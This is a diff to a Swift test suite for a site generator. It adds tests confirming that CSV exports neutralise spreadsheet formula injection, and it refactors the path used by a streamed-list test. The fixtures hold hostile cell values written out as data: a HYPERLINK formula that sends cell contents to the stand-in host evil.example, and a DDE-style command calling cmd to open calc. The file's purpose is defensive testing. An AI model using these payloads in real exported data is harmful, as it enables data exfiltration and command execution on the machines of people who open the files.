@@ -4,6 +4,7 @@ import JSON
 import Loading
 import SiteData
 import SiteLayout
+import TestSupport
 import Testing
 import Validation
 
@@ -397,12 +398,9 @@ let bodies = [
 
 /// Lists are written entry by entry: the same bytes as the whole tree serialized.
 @Suite struct StreamedListTests {
-    static let repository = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
-        .deletingLastPathComponent().path
-
-    @Test(arguments: ["", "/Tests/Fixtures/pmdot-site"])
+    @Test(arguments: ["valid-site", "pmdot-site"])
     func aStreamedListIsTheListSerialized(site folder: String) throws {
-        let tree = ContentLoader(root: Self.repository + folder).load()
+        let tree = ContentLoader(root: Repository.fixtures + "/" + folder).load()
         let modelText = try #require(tree.files.first { $0.path == ModelReader.path }).text
         let (site, _) = SiteResolver.resolve(tree, model: try #require(ModelReader.read(modelText).0))
         // Every entry with a body of its own, so that bodies are streamed too.
@@ -421,5 +419,63 @@ let bodies = [
         #expect(streamed == whole.serializedBytes())
         let two = header.serializedBytes(streaming: "a", count: 2) { .int($0) }
         #expect(two == (["b": .int(1), "z": .null, "a": .array([.int(0), .int(1)])] as JSONValue).serializedBytes())
+    }
+}
+
+/// A spreadsheet opening the site's CSV downloads runs no formula written in the content.
+@Suite struct CSVFormulaTests {
+    static let files = [
+        "content/site.yaml": """
+        title: Fórmulas
+        base_url: https://example.org/
+        language: es
+        collections:
+          socios:
+            fields:
+              title: {type: string, required: true}
+              sigla: string
+              fuente: string
+              saldo: number
+              cuenta: int
+              temas: {type: list, of: string}
+              historial:
+                type: list
+                of: {fecha: {type: date, required: true}, nota: string}
+        """,
+        "content/socios/a.md": """
+        ---
+        title: '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        sigla: "@SUM(1+1)*cmd|' /C calc'!A0"
+        fuente: "+1+1"
+        saldo: -12.5
+        cuenta: -3
+        temas: ["-2+3", normal]
+        historial:
+          - {fecha: 2024-05, nota: "\\tcmd"}
+        ---
+        """,
+        "content/socios/b.md": "---\ntitle: B\nsigla: a-b\nfuente: 1-1\n---\n",
+    ]
+
+    @Test func textCellsThatStartLikeAFormulaGetAQuoteAndNumbersStayTyped() throws {
+        let data = TabularData(site: try makeSite(Self.files))
+        let tables = data.tables
+        #expect(
+            TabularData.csv(tables[0]) == "id,title,sigla,fuente,saldo,cuenta,temas\r\n"
+                + "a,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,'+1+1,"
+                + "-12.5,-3,'-2+3;normal\r\n"
+                + "b,B,a-b,1-1,,,\r\n")
+        #expect(TabularData.csv(tables[1]) == "socios_id,n,fecha,nota\r\na,1,2024-05,'\tcmd\r\n")
+        // The Data Package's types are the same: the quote is part of a string's value.
+        let fields = try #require(data.dataPackage()["resources"]?.array?.first?["schema"]?["fields"]?.array)
+        #expect(fields.map { $0["type"] } == ["string", "string", "string", "string", "number", "integer", "string"])
+    }
+
+    @Test(arguments: [
+        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+        ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
+    ])
+    func theFirstCharacterDecides(cell: String, written: String) {
+        #expect(TabularData.neutralised(cell) == written)
     }
 }
